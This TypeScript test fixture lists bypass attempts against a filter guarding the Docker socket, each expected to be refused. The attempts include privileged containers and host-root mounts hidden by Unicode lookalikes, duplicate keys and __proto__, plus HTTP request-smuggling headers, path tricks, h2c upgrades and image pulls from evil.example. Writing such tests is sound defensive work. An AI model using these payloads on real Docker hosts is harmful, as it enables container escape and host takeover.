/**
 * Ways around a filter before docker.sock, as data: requests that a gateway writes after it was taken over. `refused`:
 * no request reaches the engine. `neutral`: what reaches it is, octet for octet, the request without the attack.
 */
import { create, request, tool } from './stand.js';

export interface Row {
  readonly name: string;
  readonly send: string | Buffer;
  readonly outcome: 'refused' | 'neutral';
}

const host = (extra: Record<string, unknown>): string => create(tool({ HostConfig: extra }));
const refused = (name: string, send: string | Buffer): Row => ({ name, send, outcome: 'refused' });
const neutral = (name: string, send: string): Row => ({ name, send, outcome: 'neutral' });
const raw = (inside: string): string => create(`{"Image":"mcp/fetch","Cmd":["true"],${inside}}`);
const utf16 = Buffer.from(tool(), 'utf16le');

export const JSON_ROWS: readonly Row[] = [
  refused('J1 keys in lower case', raw('"hostconfig":{"privileged":true,"binds":["/:/h"]}')),
  refused('J1 one key in lower case', raw('"HostConfig":{"privileged":true}')),
  refused('J2 a long s for s', raw('"HostConfig":{"Bind\u017f":["/:/h"]}')),
  refused('J2 a long s as an escape', raw('"HostConfig":{"Bind\\u017f":["/:/h"]}')),
  refused('J3 a Kelvin sign for k', raw('"HostConfig":{"Networ\u212aMode":"host"}')),
  refused('J3 a Kelvin sign as an escape', raw('"HostConfig":{"Networ\\u212aMode":"host"}')),
  refused('J4 escaped letters in a key', raw('"\\u0048ostConfig":{"Privileged":true}')),
  refused('J5 the same object twice', raw('"HostConfig":{"Privileged":true},"HostConfig":{"Binds":["/:/h"]}')),
  refused('J5 the second is harmless', raw('"HostConfig":{"Privileged":true},"HostConfig":{}')),
  refused('J5 the same key by an escape', raw('"HostConfig":{},"HostConfi\\u0067":{"Privileged":true}')),
  refused('J6 a value twice', raw('"HostConfig":{"Privileged":false,"Privileged":true}')),
  refused('J7 a value twice in two cases', raw('"HostConfig":{"Privileged":false,"PRIVILEGED":true}')),
  refused('J8 null after the object', raw('"HostConfig":{"Privileged":true},"HostConfig":null')),
  refused('J9 a brace and an object after the end', create(`${tool()}}{"x":1}`)),
  refused('J10 a bracket after the end', create(`${tool()}]garbage`)),
  refused('J11 a second document', create(`${tool()}{"HostConfig":{"Privileged":true}}`)),
  refused('J12 an unknown key', raw('"Unheard":"x"')),
  refused('J12 an unknown key below', raw('"HostConfig":{"KernelMemory":1}')),
  refused('J12 an unknown key of an endpoint', raw('"NetworkingConfig":{"EndpointsConfig":{"a":{"New":1}}}')),
  refused('J12 an unknown key of the networking', raw('"NetworkingConfig":{"New":1}')),
  neutral('J12 unknown keys that are empty', raw('"Unheard":null,"HostConfig":{"KernelMemory":0,"GwPriority":0}')),
  refused('J13 a byte order mark', create(`\ufeff${tool()}`)),
  refused('J13 UTF-16', Buffer.concat([Buffer.from(head(utf16.length)), utf16])),
  refused('J13 half a surrogate pair in a label', raw('"Labels":{"\\ud800":"x"}')),
  refused('J13 NUL in a string', raw('"Hostname":"a\\u0000b"')),
  refused('J13 a raw control character', raw('"Hostname":"a\nb"')),
  refused('J13 depth of 10,000', create(`${'['.repeat(10_000)}${']'.repeat(10_000)}`)),
  refused('J13 a megabyte and one octet', head(1024 * 1024 + 1)),
  refused('J13 a number that a double cannot hold', raw('"HostConfig":{"Memory":9007199254740993}')),
  refused('J13 an exponent', raw('"HostConfig":{"Memory":1e9}')),
  refused('J13 a fraction', raw('"HostConfig":{"Memory":1.5}')),
  refused('J13 a number in a string', raw('"HostConfig":{"Memory":"1"}')),
  refused('J13 minus zero', raw('"HostConfig":{"Memory":-0}')),
  refused('J13 a number with a leading zero', raw('"HostConfig":{"Memory":01}')),
  refused('J14 a command that is a string', create(JSON.stringify({ Image: 'mcp/fetch', Cmd: 'id' }))),
  refused(
    'J15 padding before what counts',
    create(tool({ Env: [`A=${'x'.repeat(1024 * 1024)}`], HostConfig: { Privileged: true } })),
  ),
  refused('J15 no length and a body all the same', `${head(0)}${tool({ HostConfig: { Privileged: true } })}`),
  refused('a body that is an array', create('[]')),
  refused('a body that is null', create('null')),
  refused('a body that is empty', request('POST /v1.45/containers/create')),
  refused('a trailing comma', raw('"Labels":{},')),
  refused('a comment', create(`${tool()}/* */`)),
  refused('__proto__', raw('"__proto__":{"HostConfig":{"Privileged":true}}')),
];

function head(length: number): string {
  return `POST /v1.45/containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
}

const BODY = tool();
const withHead = (text: string): string => text.replaceAll('\n', '\r\n');
const PULL = '/v1.45/images/create?fromImage=docker.io%2Fmcp%2Ffetch&tag=x';

export const HTTP_ROWS: readonly Row[] = [
  refused('H1 a percent sign in the path', create(BODY, 'POST /v1.45/containers%2Fcreate')),
  refused('H1 a letter percent-encoded', create(BODY, 'POST /v1.45/%63ontainers/create')),
  refused('H2 two slashes', create(BODY, 'POST /v1.45//containers/create')),
  refused('H2 dots', create(BODY, 'POST /v1.45/containers/x/../create')),
  refused('H2 dots percent-encoded', create(BODY, 'POST /v1.45/x/%2e%2e/containers/create')),
  refused('H2 one dot', create(BODY, 'POST /v1.45/./containers/create')),
  refused('H2 a slash at the end', create(BODY, 'POST /v1.45/containers/create/')),
  refused('H3 no version', create(BODY, 'POST /containers/create')),
  refused('H3 an old version', create(BODY, 'POST /v1.24/containers/create')),
  refused('H3 a version with a zero', create(BODY, 'POST /v01.45/containers/create')),
  refused('H3 a version of three parts', create(BODY, 'POST /v1.45.0/containers/create')),
  refused('H3 a version to come', create(BODY, 'POST /v9.99/containers/create')),
  refused('H3 the next version', create(BODY, 'POST /v1.57/containers/create')),
  refused('H4 absolute-form', create(BODY, 'POST http://anything/v1.45/containers/create')),
  refused(
    'H5 a transfer coding beside a length',
    withHead(
      `POST /v1.45/containers/create HTTP/1.1\nHost: d\nContent-Type: application/json\nContent-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n`,
    ),
  ),
  refused(
    'H5 a transfer coding alone',
    withHead(
      `POST /v1.45/containers/create HTTP/1.1\nHost: d\nContent-Type: application/json\nTransfer-Encoding: Chunked\n\n2\n{}\n0\n\n`,
    ),
  ),
  refused(
    'H5 two equal lengths',
    request('POST /v1.45/containers/create', { body: BODY, fields: [`Content-Length: ${BODY.length}`] }),
  ),
  refused(
    'H5 a length with a sign',
    withHead(
      `POST /v1.45/containers/create HTTP/1.1\nHost: d\nContent-Type: application/json\nContent-Length: +2\n\n{}`,
    ),
  ),
  refused(
    'H5 a length in a list',
    withHead(
      `POST /v1.45/containers/create HTTP/1.1\nHost: d\nContent-Type: application/json\nContent-Length: 2, 2\n\n{}`,
    ),
  ),
  refused('H5 a bare LF', `POST /v1.45/containers/create HTTP/1.1\nHost: d\nContent-Length: 2\n\n{}\r\n\r\n`),
  refused('H5 a bare CR', `POST /v1.45/containers/create HTTP/1.1\r\nHost: d\rX: y\r\nContent-Length: 2\r\n\r\n{}`),
  refused('H5 HTTP/1.0', create(BODY).replace('HTTP/1.1', 'HTTP/1.0')),
  refused('H5 a folded line', create(BODY).replace('Host: api.moby.localhost', 'Host: api\r\n .moby')),
  refused(
    'H5 an expectation',
    request('POST /v1.45/containers/create', { body: BODY, fields: ['Expect: 100-continue'] }),
  ),
  refused('H5 a space before a colon', request('POST /v1.45/containers/create', { body: BODY, fields: ['X : y'] })),
  refused('H5 no Host', create(BODY).replace('Host: api.moby.localhost\r\n', '')),
  refused('H5 a request after a refused one', `${host({ Privileged: true })}${create(BODY)}`),
  refused(
    'H6 a form in the body',
    request(`POST ${PULL}`, { body: 'fromImage=evil.example/x&tag=y', fields: [] }).replace(
      'application/json',
      'application/x-www-form-urlencoded',
    ),
  ),
  refused(
    'H6 a form type without a body',
    request(`POST ${PULL}`, { fields: ['Content-Type: application/x-www-form-urlencoded'] }),
  ),
  refused('H7 a key twice', request(`POST ${PULL}&tag=y`)),
  refused('H7 a semicolon', request(`POST ${PULL};fromImage=evil`)),
  refused('H7 another case', request('POST /v1.45/images/create?fromimage=docker.io%2Fmcp%2Ffetch&tag=x')),
  refused('H7 no tag, so every tag', request('POST /v1.45/images/create?fromImage=docker.io%2Fmcp%2Ffetch')),
  refused(
    'H7 a tag within the name',
    request('POST /v1.45/images/create?fromImage=docker.io%2Fmcp%2Ffetch%3Aevil&tag=x'),
  ),
  refused('H7 an empty query', request('POST /v1.45/containers/create?', { body: BODY })),
  refused('H7 NUL in the query', request('POST /v1.45/images/create?fromImage=docker.io%2Fmcp%2Ffetch%00&tag=x')),
  refused('H8 a preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  refused(
    'H8 h2c',
    request('GET /_ping', {
      fields: ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'],
    }),
  ),
  refused('H8 OPTIONS', request('OPTIONS *')),
  refused('H8 CONNECT', request('CONNECT docker:80')),
  refused('H8 a method in lower case', create(BODY, 'post /v1.45/containers/create')),
  refused('H9 a session', request('POST /v1.45/session', { fields: ['Connection: Upgrade', 'Upgrade: h2c'] })),
  refused('H9 gRPC', request('POST /grpc', { fields: ['Connection: Upgrade', 'Upgrade: h2c'] })),
  refused('H11 variables of the process', request('GET /debug/vars')),
  refused('H11 its heap', request('GET /debug/pprof/heap')),
  refused('HTTP/0.9', 'GET /_ping\r\n\r\n'),
  refused('a head of 17 KiB', request('GET /_ping', { fields: [`X: ${'x'.repeat(17 * 1024)}`] })),
  refused('TLS', Buffer.from('160301020001000\r\n\r\n', 'latin1')),
];
